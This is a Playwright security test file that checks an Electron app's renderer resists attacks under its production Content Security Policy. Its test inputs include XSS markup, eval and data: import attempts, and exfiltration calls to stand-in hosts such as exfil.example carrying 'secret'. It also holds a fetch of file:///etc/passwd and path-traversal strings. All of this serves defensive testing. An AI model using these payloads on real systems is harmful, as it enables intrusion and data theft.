// The built renderer under the production CSP header, attacked from inside the page.
//
// What this can prove in plain Chromium: the CSP (script, eval, remote loads, framing
// of inline content, <base>, forms), that the app itself runs clean under it, and what the page
// sees of window.claimtag. What it cannot: app://, will-navigate, window.open and permission
// handlers exist only in Electron, so those run in e2e/electron/app.spec.ts.
import type { Page, Request } from '@playwright/test';
import { RENDERER_CSP } from '../../src/main/security/csp';
import { API_METHODS } from '../../src/shared/api-methods';
import { test, expect } from '../support/app-fixture';
import { ArticlePage } from '../support/article-page';

/** Event subscriptions the bridge may carry besides the calls (each takes a listener, returns an unsubscribe). */
const SUBSCRIPTIONS = ['onMenuCommand', 'onJobEvent'];

type Violation = { directive: string; blocked: string; sample: string; source: string };

declare global {
  interface Window {
    __violations: Violation[];
    __ran: string[];
  }
}

/** Records CSP violations from the first byte of the page on, and what injected code managed to run. */
async function watchPage(page: Page, origin: string): Promise<{ offOrigin: string[] }> {
  await page.addInitScript(() => {
    window.__violations = [];
    window.__ran = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      window.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample, source: e.sourceFile }),
    );
  });
  // Anything that reaches the network layer for another origin is recorded, then aborted so
  // that nothing leaves the machine even if a defence fails.
  const offOrigin: string[] = [];
  await page.context().route(
    (url) => url.origin !== origin,
    (route) => {
      offOrigin.push(route.request().url());
      return route.abort('blockedbyclient');
    },
  );
  return { offOrigin };
}

const violations = (page: Page) => page.evaluate(() => window.__violations);
const ran = (page: Page) => page.evaluate(() => window.__ran);

test.describe('the built renderer under the production CSP', () => {
  test('every response carries the CSP of src/main/security/csp.ts, and the app itself runs without a violation', async ({ app, page }) => {
    const { offOrigin } = await watchPage(page, app.origin);
    const served: Array<{ url: string; csp: string | null; status: number }> = [];
    page.on('response', async (r) => {
      if (r.url().startsWith(app.origin)) served.push({ url: r.url(), csp: (await r.allHeaders())['content-security-policy'] ?? null, status: r.status() });
    });
    await app.start();
    const article = new ArticlePage(page);
    await article.enterName('Ayesha');
    await article.select('Pakistan and Afghanistan have agreed');
    await page.keyboard.press('1');
    await expect(article.items).toHaveCount(1);

    const ok = served.filter((s) => s.status === 200);
    expect(ok.map((s) => new URL(s.url).pathname)).toEqual(expect.arrayContaining(['/index.html', expect.stringMatching(/\.js$/), expect.stringMatching(/\.css$/)]));
    for (const s of ok) expect(s.csp, s.url).toBe(RENDERER_CSP);
    // Normal use reports no violation, so a violation in the tests below is the attack, not noise.
    // (zod, whose one-off `new Function('')` probe used to be reported, is no longer in the page
    // bundle: the renderer imports the contract as types only.)
    expect(await violations(page)).toEqual([]);
    expect(offOrigin).toEqual([]);
  });

  test('injected markup cannot run script: script elements, handlers, javascript: URLs, srcdoc frames, SVG', async ({ app, page }) => {
    const { offOrigin } = await watchPage(page, app.origin);
    await app.start();
    await page.getByLabel('Your name').waitFor();

    // Each payload goes in the way an HTML-injection bug would put it: parsed markup, inserted live.
    const payloads = [
      `<script>window.__ran.push('script')</script>`,
      `<img src="data:," onerror="window.__ran.push('img onerror')">`,
      `<svg><script>window.__ran.push('svg script')</script></svg>`,
      `<svg onload="window.__ran.push('svg onload')"></svg>`,
      `<iframe srcdoc="<script>parent.__ran.push('srcdoc')</script>"></iframe>`,
      `<a id="jsurl" href="javascript:window.__ran.push('javascript: url')">x</a>`,
      `<div style="background:url(https://tracker.example/style.png)" onclick="window.__ran.push('onclick')" id="clicky">x</div>`,
      `<object data="data:text/html,<script>parent.__ran.push('object')</script>"></object>`,
      `<embed src="data:text/html,<script>parent.__ran.push('embed')</script>">`,
    ];
    // Inserted and clicked from a task of the page's own (Playwright's evaluate itself runs with
    // DevTools' CSP exemptions, so the attack must not run inside it).
    await page.evaluate(
      (list) =>
        new Promise<void>((resolve) =>
          setTimeout(() => {
            for (const html of list) document.body.append(document.createRange().createContextualFragment(html));
            (document.getElementById('jsurl') as HTMLAnchorElement).click();
            (document.getElementById('clicky') as HTMLElement).click();
            setTimeout(resolve, 300);
          }, 0),
        ),
      payloads,
    );

    expect(await ran(page)).toEqual([]);
    const directives = new Set((await violations(page)).map((v) => v.directive));
    // inline <script>, inline handlers and javascript: URLs are each reported…
    expect([...directives]).toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr', 'style-src-attr', 'object-src']));
    // …and no script was loaded from anywhere else
    expect(offOrigin).toEqual([]);
    test.info().annotations.push({ type: 'payloads', description: `${payloads.length} markup payloads, ${(await violations(page)).length} violations reported` });
  });

  test('strings are never compiled to code: eval, new Function, string timers, import of a data: URL', async ({ app, page }) => {
    await watchPage(page, app.origin);
    await app.start();
    await page.getByLabel('Your name').waitFor();
    // Playwright's evaluate runs with DevTools' exemption from the eval check, so every attempt
    // runs in a later task of the page's own, where the CSP applies as it would to a real attack.
    const outcome = await page.evaluate(() => new Promise<string[]>((done) => setTimeout(async () => {
      const attempt = async (name: string, f: () => unknown) => {
        try {
          await f();
          return `${name}: ran`;
        } catch (e) {
          return `${name}: ${(e as Error).name}`;
        }
      };
      const results = [
        await attempt('eval', () => (0, eval)("window.__ran.push('eval')")),
        await attempt('Function', () => new Function("window.__ran.push('Function')")()),
        await attempt('AsyncFunction', () => Object.getPrototypeOf(async () => {}).constructor("window.__ran.push('AsyncFunction')")()),
        await attempt('data: import', () => import(/* @vite-ignore */ ['data:text/javascript,', "window.__ran.push('import')"].join(''))),
        await attempt('blob: import', () => import(/* @vite-ignore */ URL.createObjectURL(new Blob(["window.__ran.push('blob')"], { type: 'text/javascript' })))),
      ];
      // a string timer fails silently (no exception); it is the violation below that shows it
      setTimeout("window.__ran.push('setTimeout string')" as unknown as () => void, 0);
      await new Promise((r) => setTimeout(r, 200));
      done(results);
    }, 0)));
    expect(outcome).toEqual(['eval: EvalError', 'Function: EvalError', 'AsyncFunction: EvalError', 'data: import: TypeError', 'blob: import: TypeError']);
    expect(await ran(page)).toEqual([]);
    const directives = (await violations(page)).map((v) => v.directive);
    expect(directives.filter((d) => d === 'script-src').length).toBeGreaterThanOrEqual(4); // 3 evals + the string timer
    expect(directives).toContain('script-src-elem'); // the data:/blob: imports
  });

  test('nothing leaves for another origin: images, fetch, XHR, beacons, sockets, fonts, styles, workers, <base>, forms', async ({ app, page }) => {
    const { offOrigin } = await watchPage(page, app.origin);
    const failed: Array<{ url: string; error: string }> = [];
    page.on('requestfailed', (r: Request) => failed.push({ url: r.url(), error: r.failure()?.errorText ?? '' }));
    await app.start();
    await page.getByLabel('Your name').waitFor();

    const outcome = await page.evaluate(async () => {
      const settle = async (f: () => Promise<unknown>) => {
        try {
          await f();
          return 'loaded';
        } catch (e) {
          return (e as Error).name;
        }
      };
      const img = () =>
        new Promise<string>((resolve) => {
          const i = new Image();
          i.onload = () => resolve('loaded');
          i.onerror = () => resolve('error');
          i.src = 'https://tracker.example/pixel.png?doc=secret';
          document.body.append(i);
        });
      const out: Record<string, string> = {
        img: await img(),
        fetch: await settle(() => fetch('https://exfil.example/collect', { method: 'POST', body: 'secret' })),
        'fetch no-cors': await settle(() => fetch('https://exfil.example/a', { mode: 'no-cors' })),
        'fetch file:': await settle(() => fetch('file:///etc/passwd')),
        xhr: await new Promise<string>((resolve) => {
          const x = new XMLHttpRequest();
          x.onload = () => resolve('loaded');
          x.onerror = () => resolve('error');
          try {
            x.open('GET', 'https://exfil.example/xhr');
            x.send();
          } catch (e) {
            resolve((e as Error).name);
          }
        }),
        // sendBeacon only queues (and returns true); the CSP check comes later, see connect-src below
        beacon: (navigator.sendBeacon('https://exfil.example/beacon', 'secret'), 'queued'),
        websocket: await new Promise<string>((resolve) => {
          try {
            const ws = new WebSocket('wss://exfil.example/ws');
            ws.onopen = () => resolve('open');
            ws.onerror = () => resolve('error');
          } catch (e) {
            resolve((e as Error).name);
          }
        }),
        font: await settle(() => new FontFace('x', 'url(https://fonts.example/x.woff2)').load()),
        worker: await settle(
          () =>
            new Promise((resolve, reject) => {
              try {
                const w = new Worker('https://exfil.example/w.js');
                w.onerror = () => reject(new Error('worker'));
                setTimeout(resolve, 300);
              } catch (e) {
                reject(e);
              }
            }),
        ),
      };
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = 'https://cdn.example/x.css';
      document.head.append(link);
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
      out['base applied'] = String(document.baseURI.startsWith('https://evil.example'));
      const form = document.createElement('form');
      form.action = 'https://exfil.example/form';
      form.method = 'post';
      document.body.append(form);
      form.submit();
      await new Promise((r) => setTimeout(r, 300));
      return out;
    });

    expect(outcome).toEqual({
      img: 'error',
      fetch: 'TypeError',
      'fetch no-cors': 'TypeError',
      'fetch file:': 'TypeError',
      xhr: 'error',
      beacon: 'queued',
      websocket: 'error',
      font: 'NetworkError',
      worker: 'SecurityError',
      'base applied': 'false',
    });
    const directives = new Set((await violations(page)).map((v) => v.directive));
    for (const d of ['img-src', 'connect-src', 'font-src', 'style-src-elem', 'base-uri', 'form-action']) expect([...directives], d).toContain(d);
    // the proof that matters: not one request for another origin reached the network layer
    expect(offOrigin).toEqual([]);
    // (Chromium still reports the subresource attempts to DevTools, each failed by the CSP check)
    for (const f of failed.filter((x) => !x.url.startsWith(app.origin))) expect(f.error, f.url).toMatch(/^(csp|net::ERR_BLOCKED_BY_CSP)$/);
    expect(page.url()).toBe(`${app.origin}/index.html`);
  });

  test('the bundle server refuses paths outside the bundle, as the app:// handler does', async ({ app, page }) => {
    await app.start();
    const statuses = await page.evaluate(async () => {
      const paths = ['/../../etc/passwd', '/%2e%2e/%2e%2e/etc/passwd', '/assets/..%2f..%2f..%2fetc%2fpasswd', '/..%5c..%5cwindows%5cwin.ini', '/index.html%00.js', '/../../package.json'];
      return Promise.all(paths.map(async (p) => [p, (await fetch(p)).status] as const));
    });
    for (const [p, status] of statuses) expect(status, p).toBe(404);
  });

  test('window.claimtag as the page sees it: exactly the contract, frozen, not replaceable', async ({ app, page }) => {
    // In Chromium this object is the test harness's stand-in for the preload (same shape: a frozen
    // object of functions). The real contextBridge object is checked by src/preload/preload.test.ts
    // and, in Electron, by e2e/electron/app.spec.ts. What this proves is the page-side contract
    // the renderer relies on, and that page script cannot swap or extend it.
    await app.start();
    await page.getByLabel('Your name').waitFor();
    const seen = await page.evaluate(() => {
      const w = window as unknown as Record<string, unknown>;
      const api = w.claimtag as Record<string, unknown>;
      const descriptor = Object.getOwnPropertyDescriptor(window, 'claimtag')!;
      const tries: Record<string, string> = {};
      // Reflect.* report refusal as false instead of throwing, whatever the caller's strictness.
      const attempt = (name: string, f: () => boolean) => {
        try {
          tries[name] = f() ? 'allowed' : 'refused';
        } catch (e) {
          tries[name] = `refused (${(e as Error).name})`;
        }
      };
      attempt('replace window.claimtag', () => Reflect.set(window, 'claimtag', {}));
      attempt('redefine window.claimtag', () => Reflect.defineProperty(window, 'claimtag', { value: {} }));
      attempt('delete window.claimtag', () => Reflect.deleteProperty(window, 'claimtag'));
      attempt('swap a method', () => Reflect.set(api, 'listLabels', () => 'evil'));
      attempt('add a method', () => Reflect.set(api, 'invoke', () => 'evil'));
      attempt('change its prototype', () => Reflect.setPrototypeOf(api, { invoke: () => 'evil' }));
      return {
        calls: Object.keys(api).filter((k) => !/^on[A-Z]/.test(k)).sort(),
        subscriptions: Object.keys(api).filter((k) => /^on[A-Z]/.test(k)),
        allFunctions: Object.values(api).every((v) => typeof v === 'function'),
        frozen: Object.isFrozen(api),
        writable: descriptor.writable,
        configurable: descriptor.configurable,
        stillSame: w.claimtag === api && typeof api.invoke === 'undefined',
        nodeGlobals: ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron'].filter((k) => k in window),
        tries,
      };
    });
    expect(seen).toEqual({
      calls: [...API_METHODS].sort(),
      subscriptions: seen.subscriptions.filter((k) => SUBSCRIPTIONS.includes(k)), // any other on… key fails
      allFunctions: true,
      frozen: true,
      writable: false,
      configurable: false,
      stillSame: true,
      nodeGlobals: [],
      tries: {
        'replace window.claimtag': 'refused',
        'redefine window.claimtag': 'refused',
        'delete window.claimtag': 'refused',
        'swap a method': 'refused',
        'add a method': 'refused',
        'change its prototype': 'refused',
      },
    });
  });

  test('navigation away is not a CSP matter: main must stop it (checked in the Electron spec)', async ({ app, page }) => {
    // CSP has no directive for top-level navigation (navigate-to was dropped), so in a plain
    // browser `location.href = …` does try to leave. In the app, main's will-navigate handler
    // (security/harden-web-contents.ts) prevents it; e2e/electron/app.spec.ts asserts that.
    // This test pins the premise so nobody counts on the CSP for it.
    const { offOrigin } = await watchPage(page, app.origin);
    await app.start();
    await page.getByLabel('Your name').waitFor();
    await page.evaluate(() => {
      location.href = 'https://example.org/';
    });
    await expect.poll(() => offOrigin).toEqual(['https://example.org/']);
  });
});
